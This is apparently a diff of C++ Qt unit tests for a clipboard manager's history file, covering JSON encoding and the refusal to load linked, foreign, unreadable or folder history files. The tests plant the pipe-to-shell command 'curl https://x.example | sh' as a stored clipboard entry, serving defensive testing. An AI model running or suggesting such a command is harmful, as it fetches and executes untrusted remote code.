@@ -1,5 +1,4 @@
-#include "HistoryFile.h"
-#include "TestSupport.h"
+#include "HistoryFixture.h"
 
 #include <QDir>
 #include <QFile>
@@ -17,15 +16,9 @@
 #include <sys/resource.h>
 
 using namespace ondrel;
+using test::textItem;
 
 namespace {
-
-ClipboardItem textItem(const QString& text, double seconds, std::optional<QString> app = std::nullopt,
-                       bool pinned = false)
-{
-    return ClipboardItem::makeText(text, std::move(app), std::nullopt,
-                                   Timestamp::fromSecondsSinceReferenceDate(seconds), pinned);
-}
 
 QStringList corruptCopies(const QString& folder)
 {
@@ -41,8 +34,8 @@ class TestHistoryFile : public QObject
 private Q_SLOTS:
     void init() { test::failOnUnexpectedWarnings(); }
 
+    void exactFormat_data();
     void exactFormat();
-    void onlyTextsAreWritten();
     void roundTrip();
     void readsFlexibleRecords_data();
     void readsFlexibleRecords();
@@ -51,38 +44,54 @@ private Q_SLOTS:
     void badFilesLoadEmptyAndAreMovedAside_data();
     void badFilesLoadEmptyAndAreMovedAside();
     void emptyFileIsNotKept();
-    void folderInPlaceOfFile();
-    void unreadableFile();
+    void notAHistoryFile_data();
+    void notAHistoryFile();
     void unwritableFolderKeepsOldFile();
     void hugeFile();
     void folderIsMadePrivate();
     void foreignFolderIsNotUsed();
-    void foreignOrLinkedFileIsNotLoaded_data();
-    void foreignOrLinkedFileIsNotLoaded();
     void leftoverTemporaryFilesAreRemoved();
     void fullDiskSaysSoOncePerRunOfFailures();
 };
 
-void TestHistoryFile::exactFormat()
+void TestHistoryFile::exactFormat_data()
 {
-    const QList<ClipboardItem> items{
-        textItem(QStringLiteral("a/b \"q\"\n"), 1.5, QStringLiteral("Editor"), true),
-        textItem(QStringLiteral("ünï"), 0)};
-    QCOMPARE(HistoryFile::encode(items),
-             QByteArray(R"([{"text":"a\/b \"q\"\n","timestamp":1.5,"appName":"Editor","isPinned":true},)"
-                        R"({"text":"ünï","timestamp":0,"isPinned":false}])"));
-    QCOMPARE(HistoryFile::encode({}), QByteArray("[]"));
+    // One entry, and its record as written up to the pin.
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<double>("timestamp");
+    QTest::addColumn<QString>("app"); // empty: none
+    QTest::addColumn<QByteArray>("record");
+    QTest::newRow("escapes") << "a/b \"q\" \\ \n\r\t\b\f\u0001\u001f" << 1.5 << "Editor"
+                             << QByteArray(
+                                    R"({"text":"a\/b \"q\" \\ \n\r\t\b\f\u0001\u001f","timestamp":1.5,)"
+                                    R"("appName":"Editor","isPinned":)");
+    QTest::newRow("other characters as they are")
+        << "ünï ✓ 😀 </script>" << 0.0 << QString()
+        << QByteArray(R"({"text":"ünï ✓ 😀 <\/script>","timestamp":0,"isPinned":)");
+    QTest::newRow("shortest timestamp, quoted app")
+        << "t" << 786000000.123456 << "App \"1\""
+        << QByteArray(R"({"text":"t","timestamp":786000000.123456,"appName":"App \"1\"","isPinned":)");
+    // Long texts are held in the file's form.
+    QTest::newRow("long text") << QStringLiteral("é/\"\\\t\u0001").repeated(1000) << 2.25 << "A"
+                               << R"({"text":")" + QByteArray(R"(é\/\"\\\t\u0001)").repeated(1000) +
+                                      R"(","timestamp":2.25,"appName":"A","isPinned":)";
 }
 
-void TestHistoryFile::onlyTextsAreWritten()
+void TestHistoryFile::exactFormat()
 {
-    QImage image(1, 1, QImage::Format_RGB32);
-    const QList<ClipboardItem> items{
-        ClipboardItem::makeImage(image), ClipboardItem::makeFile(QUrl(QStringLiteral("file:///x"))),
-        textItem(QStringLiteral("1"), 1), textItem(QStringLiteral("2"), 2), textItem(QStringLiteral("3"), 3)};
-    const auto decoded = HistoryFile::decode(HistoryFile::encode(items));
-    QVERIFY(decoded);
-    QCOMPARE(decoded->size(), 3);
+    QFETCH(QString, text);
+    QFETCH(double, timestamp);
+    QFETCH(QString, app);
+    QFETCH(QByteArray, record);
+    ClipboardItem item = textItem(text, timestamp, app.isEmpty() ? std::nullopt : std::optional(app));
+    QCOMPARE(HistoryFile::encode({item}), "[" + record + "false}]");
+    // The pin is written as it is now, not as it was at the first save;
+    // only texts are written.
+    item.setPinned(true);
+    const ClipboardItem image = ClipboardItem::makeImage(test::filledImage(QSize(1, 1), Qt::red));
+    const ClipboardItem file = ClipboardItem::makeFile(QUrl(QStringLiteral("file:///x")));
+    QCOMPARE(HistoryFile::encode({image, item, file, item}), "[" + record + "true}," + record + "true}]");
+    QCOMPARE(HistoryFile::encode({}), QByteArray("[]"));
 }
 
 void TestHistoryFile::roundTrip()
@@ -205,45 +214,62 @@ void TestHistoryFile::emptyFileIsNotKept()
     QVERIFY(corruptCopies(dir.path()).isEmpty());
 }
 
-void TestHistoryFile::folderInPlaceOfFile()
+void TestHistoryFile::notAHistoryFile_data()
 {
-    QTemporaryDir dir;
-    HistoryFile file(dir.path());
-    QVERIFY(QDir().mkpath(file.filePath() + QStringLiteral("/inner")));
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(QStringLiteral("is not loaded: it is not a regular file$")));
-    QVERIFY(file.load().isEmpty());
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({textItem(QStringLiteral("a"), 0)}));
-    const QStringList copies = corruptCopies(dir.path());
-    QCOMPARE(copies.size(), 1);
-    QVERIFY(QFileInfo(dir.path() + u'/' + copies.first() + QStringLiteral("/inner")).isDir());
-    QCOMPARE(file.load().size(), 1);
+    QTest::addColumn<QString>("what"); // where the file should be
+    QTest::addColumn<QString>("said"); // why it is not loaded
+    QTest::newRow("folder") << "folder"
+                            << "it is not a regular file";
+    // A link to itself cannot be opened, by root or anyone.
+    QTest::newRow("link to itself") << "loop"
+                                    << "it is a symbolic link";
+    QTest::newRow("link to a file") << "link"
+                                    << "it is a symbolic link";
+    QTest::newRow("unreadable file") << "unreadable"
+                                     << "Permission denied";
+    QTest::newRow("another user's file") << "foreign"
+                                         << "it belongs to another user \\(uid 4242\\)";
 }
 
-void TestHistoryFile::unreadableFile()
+void TestHistoryFile::notAHistoryFile()
 {
+    QFETCH(QString, what);
+    QFETCH(QString, said);
+    if (what == u"unreadable" && test::runningAsRoot())
+        QSKIP("root reads files of mode 000");
+    if (what == u"foreign" && !test::runningAsRoot())
+        QSKIP("only root can hand a file to another user");
     QTemporaryDir dir;
     HistoryFile file(dir.path());
-    // A link to itself cannot be opened, by root or anyone.
-    QVERIFY(QFile::link(file.filePath(), file.filePath()));
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(QStringLiteral("is not loaded: it is a symbolic link$")));
+    const QString path = file.filePath();
+    const QString elsewhere = dir.filePath(QStringLiteral("elsewhere.json"));
+    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
+    if (what == u"folder") {
+        QVERIFY(QDir().mkpath(path + QStringLiteral("/inner")));
+    } else if (what == u"loop") {
+        QVERIFY(QFile::link(path, path));
+    } else if (what == u"link") {
+        QVERIFY(test::writeFile(elsewhere, planted));
+        QVERIFY(QFile::link(elsewhere, path));
+    } else {
+        QVERIFY(test::writeFile(path, planted));
+        if (what == u"unreadable")
+            QVERIFY(QFile::setPermissions(path, {}));
+        else
+            QCOMPARE(::chown(QFile::encodeName(path).constData(), 4242, 4242), 0);
+    }
+    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("is not loaded: ") + said + u'$'));
     QVERIFY(file.load().isEmpty());
+    // Kept aside for a look, never rewritten as ours; a linked file is untouched.
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({textItem(QStringLiteral("a"), 0)}));
-    QCOMPARE(corruptCopies(dir.path()).size(), 1);
-    QVERIFY(QFileInfo(dir.path() + u'/' + corruptCopies(dir.path()).first()).isSymLink());
-
-    if (test::runningAsRoot())
-        QSKIP("root reads files of mode 000");
-    QVERIFY(QFile::setPermissions(file.filePath(), {}));
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(QStringLiteral("is not loaded: Permission denied$")));
-    QVERIFY(file.load().isEmpty());
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({}));
-    QCOMPARE(corruptCopies(dir.path()).size(), 2);
+    QVERIFY(file.save({textItem(QStringLiteral("mine"), 0)}));
+    const QStringList copies = corruptCopies(dir.path());
+    QCOMPARE(copies.size(), 1);
+    const QFileInfo copy(dir.filePath(copies.first()));
+    QCOMPARE(copy.isSymLink(), what == u"loop" || what == u"link");
+    QCOMPARE(copy.isDir(), what == u"folder");
+    QCOMPARE(test::readFile(elsewhere), what == u"link" ? planted : QByteArray());
+    QCOMPARE(file.load().first().text(), std::optional<QString>(QStringLiteral("mine")));
 }
 
 void TestHistoryFile::unwritableFolderKeepsOldFile()
@@ -349,41 +375,6 @@ void TestHistoryFile::foreignFolderIsNotUsed()
     // Neither loaded nor rewritten, and its modes are not ours to change.
     QVERIFY(test::readFile(folder + QStringLiteral("/history.json")).contains("curl"));
     QCOMPARE(test::unixMode(folder), 0777);
-}
-
-void TestHistoryFile::foreignOrLinkedFileIsNotLoaded_data()
-{
-    QTest::addColumn<bool>("link");
-    QTest::newRow("another user's file") << false;
-    QTest::newRow("link to a file") << true;
-}
-
-void TestHistoryFile::foreignOrLinkedFileIsNotLoaded()
-{
-    QFETCH(bool, link);
-    if (!link && !test::runningAsRoot())
-        QSKIP("only root can hand a file to another user");
-    QTemporaryDir dir;
-    HistoryFile file(dir.path() + QStringLiteral("/ondrel"));
-    QVERIFY(QDir().mkpath(dir.path() + QStringLiteral("/ondrel")));
-    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
-    const QString elsewhere = dir.path() + QStringLiteral("/elsewhere.json");
-    QVERIFY(test::writeFile(link ? elsewhere : file.filePath(), planted));
-    if (link)
-        QVERIFY(QFile::link(elsewhere, file.filePath()));
-    else
-        QCOMPARE(::chown(QFile::encodeName(file.filePath()).constData(), 4242, 4242), 0);
-    QTest::ignoreMessage(QtWarningMsg,
-                         QRegularExpression(link ? QStringLiteral("is not loaded: it is a symbolic link$")
-                                                 : QStringLiteral("is not loaded: it belongs to another user "
-                                                                  "\\(uid 4242\\)$")));
-    QVERIFY(file.load().isEmpty());
-    // Kept aside for a look, never rewritten as ours; a linked file is untouched.
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
-    QVERIFY(file.save({textItem(QStringLiteral("mine"), 0)}));
-    QCOMPARE(corruptCopies(dir.path() + QStringLiteral("/ondrel")).size(), 1);
-    QCOMPARE(test::readFile(elsewhere).size(), link ? planted.size() : 0);
-    QCOMPARE(file.load().first().text(), std::optional<QString>(QStringLiteral("mine")));
 }
 
 void TestHistoryFile::leftoverTemporaryFilesAreRemoved()
